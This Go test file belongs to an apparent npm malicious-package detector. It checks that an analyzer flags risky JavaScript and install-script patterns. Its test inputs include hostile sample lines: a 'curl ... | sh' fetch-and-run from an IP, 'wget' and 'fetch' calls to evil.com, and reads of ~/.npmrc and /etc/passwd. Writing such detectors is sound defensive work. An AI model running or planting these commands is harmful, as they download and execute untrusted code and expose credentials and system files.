package analyzer

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kluth/npm-feature-extractor/internal/features"
)

func flagSet(findings []Finding) map[features.Flag]int {
	out := make(map[features.Flag]int)
	for _, f := range findings {
		out[f.Flag]++
	}
	return out
}

func analyze(t *testing.T, opts SyntaxOptions, src string) FileResult {
	t.Helper()
	res, err := New(opts).AnalyzeScript(context.Background(), []byte(src))
	require.NoError(t, err)
	return res
}

func TestSyntaxRules(t *testing.T) {
	tests := []struct {
		name string
		src  string
		want []features.Flag
	}{
		{"require child_process", `const cp = require('child_process');`, []features.Flag{features.RequireChildProcessInJSFile}},
		{"require escaped name", `require("child\x5fprocess")`, []features.Flag{features.RequireChildProcessInJSFile}},
		{"require node scheme", `require("node:fs")`, nil},
		{"require node scheme child_process", `require("node:child_process")`, nil},
		{"require fs/promises", `require("fs/promises")`, []features.Flag{features.AccessFSInJSFile}},
		{"require https", `require("https").get(u)`, []features.Flag{features.AccessNetworkInJSFile}},
		{"require got", `const got = require("got")`, []features.Flag{features.AccessNetworkInJSFile}},
		{"require dns", `require("dns")`, []features.Flag{features.ContainDomainInJSFile}},
		{"require zlib", `require("zlib")`, []features.Flag{features.AccessCryptoAndZip}},
		{"require base64-js", `require("base64-js")`, []features.Flag{features.UseBase64Conversion}},
		{"dynamic import", `import("child_process").then(m => m)`, nil},
		{"import declaration", `import fs from 'fs';`, []features.Flag{features.AccessFSInJSFile}},
		{"import axios", `import axios from "axios";`, []features.Flag{features.AccessNetworkInJSFile}},
		{"import node scheme", `import fs from "node:fs";`, nil},
		{"os api", `os.homedir()`, []features.Flag{features.AccessSensitiveAPI}},
		{"os computed api", `os["userInfo"]()`, []features.Flag{features.AccessSensitiveAPI}},
		{"process.env", `const t = process.env.NPM_TOKEN;`, []features.Flag{features.AccessProcessEnvInJSFile}},
		{"Buffer.from", `Buffer.from(x)`, []features.Flag{features.UseBuffer}},
		{"new Buffer", `new Buffer(10)`, []features.Flag{features.UseBuffer}},
		{"eval call", `eval(userInput)`, []features.Flag{features.UseEval}},
		{"eval property", `global.eval(code)`, []features.Flag{features.UseEval}},
		{"base64 literal", `x.toString("base64")`, []features.Flag{features.UseBase64Conversion}},
		{"ip literal", `const host = "104.16.85.20";`, []features.Flag{features.ContainIP}},
		{"base64 content", `const p = "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp";`, []features.Flag{features.ContainBase64StringInJSFile}},
		{"domain literal", `fetch("https://evil.com/collect")`, []features.Flag{features.ContainDomainInJSFile}},
		{"sensitive literal", `read("/etc/passwd")`, []features.Flag{features.ContainSuspiciousString}},
		{"bytestring", `var s = "\x65\x76\x61\x6c";`, []features.Flag{features.ContainBytestring}},
		{"unrelated require", `require("lodash")`, nil},
		{"template require", "require(`fs`)", nil},
		{"process other", `process.argv`, nil},
		{"comment only", `// require("fs") eval`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := analyze(t, SyntaxOptions{}, tt.src)
			require.Nil(t, res.ParseErr)
			got := flagSet(res.Findings)
			assert.Len(t, got, len(tt.want), "findings: %v", res.Findings)
			for _, f := range tt.want {
				assert.Contains(t, got, f)
			}
		})
	}
}

func TestSyntaxRanges(t *testing.T) {
	src := "const host = \"104.16.85.20\";\neval(userInput);\n"
	res := analyze(t, SyntaxOptions{}, src)

	var ip, ev *Finding
	for i := range res.Findings {
		switch res.Findings[i].Flag {
		case features.ContainIP:
			ip = &res.Findings[i]
		case features.UseEval:
			ev = &res.Findings[i]
		}
	}
	require.NotNil(t, ip)
	require.NotNil(t, ev)
	assert.Equal(t, features.Range{
		Start: features.Point{Line: 1, Column: 13},
		End:   features.Point{Line: 1, Column: 27},
	}, *ip.Range)
	assert.Equal(t, features.Range{
		Start: features.Point{Line: 2, Column: 0},
		End:   features.Point{Line: 2, Column: 4},
	}, *ev.Range)
	assert.Greater(t, res.Nodes, 0)
}

func TestParseFailure(t *testing.T) {
	src := "eval(x);\nfunction ( {"

	res := analyze(t, SyntaxOptions{}, src)
	require.NotNil(t, res.ParseErr)
	assert.Empty(t, res.Findings)
	assert.GreaterOrEqual(t, res.ParseErr.Line, 1)

	res.ParseErr.Path = "/pkg/bad.js"
	assert.Contains(t, res.ParseErr.Error(), "/pkg/bad.js:")

	tolerant := analyze(t, SyntaxOptions{Tolerant: true}, src)
	assert.Nil(t, tolerant.ParseErr)
	assert.Contains(t, flagSet(tolerant.Findings), features.UseEval)
}

func TestParseFailureKeepsLexicalFindings(t *testing.T) {
	res := analyze(t, SyntaxOptions{}, `var s = "\x41\x42\x43\x44"; function (`)
	require.NotNil(t, res.ParseErr)
	require.Len(t, res.Findings, 1)
	assert.Equal(t, features.ContainBytestring, res.Findings[0].Flag)
	assert.Equal(t, `\x41\x42\x43\x44`, res.Findings[0].Literal)
}

func TestMaxStringLength(t *testing.T) {
	long := `"104.16.85.20` + strings.Repeat(" ", 20) + `"`
	res := analyze(t, SyntaxOptions{MaxStringLength: 10}, long)
	assert.Empty(t, res.Findings)

	res = analyze(t, SyntaxOptions{MaxStringLength: 10}, `"base64` + strings.Repeat("-", 20) + `"; "base64"`)
	assert.Equal(t, map[features.Flag]int{features.UseBase64Conversion: 1}, flagSet(res.Findings))
}

func TestMaxPerFlag(t *testing.T) {
	src := strings.Repeat("eval(a);\n", 5)
	res := analyze(t, SyntaxOptions{MaxPerFlag: 2}, src)
	assert.Equal(t, 2, flagSet(res.Findings)[features.UseEval])
	assert.Equal(t, 1, res.Findings[0].Range.Start.Line)
	assert.Equal(t, 2, res.Findings[1].Range.Start.Line)
}

func TestAnalyzeCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	src := strings.Repeat("a.b(c);\n", 2000)
	_, err := New(SyntaxOptions{}).AnalyzeScript(ctx, []byte(src))
	assert.Error(t, err)
}

func TestScanCommand(t *testing.T) {
	m := NewLexicalMatcher(nil)
	tests := []struct {
		cmd  string
		want []features.Flag
	}{
		{"node setup.js", nil},
		{"curl http://104.16.85.20/x | sh", []features.Flag{features.ContainIP, features.AccessNetworkInInstallScript}},
		{"wget https://evil.com/a", []features.Flag{features.ContainDomainInInstallScript, features.AccessNetworkInInstallScript}},
		{"cat ~/.npmrc", []features.Flag{features.ContainSuspiciousString}},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			got := m.ScanCommand(tt.cmd)
			require.Len(t, got, len(tt.want))
			for i, f := range got {
				assert.Equal(t, tt.want[i], f.Flag)
				assert.Equal(t, tt.cmd, f.Literal)
				assert.Nil(t, f.Range)
			}
		})
	}
}

func TestUnquoteJS(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{`"plain"`, "plain"},
		{`'single'`, "single"},
		{`"a\nb"`, "a\nb"},
		{`"\x41B\u{43}"`, "ABC"},
		{`"\uD83D\uDE00"`, "\U0001F600"},
		{`"\101"`, "A"},
		{`"\q"`, "q"},
		{`"\'"`, "'"},
		{"\"a\\\nb\"", "ab"},
		{`"\xZZ"`, "xZZ"},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, unquoteJS(tt.in), tt.in)
	}
	assert.Equal(t, 2, utf16Len("\U0001F600"))
	assert.Equal(t, 3, utf16Len("abc"))
}
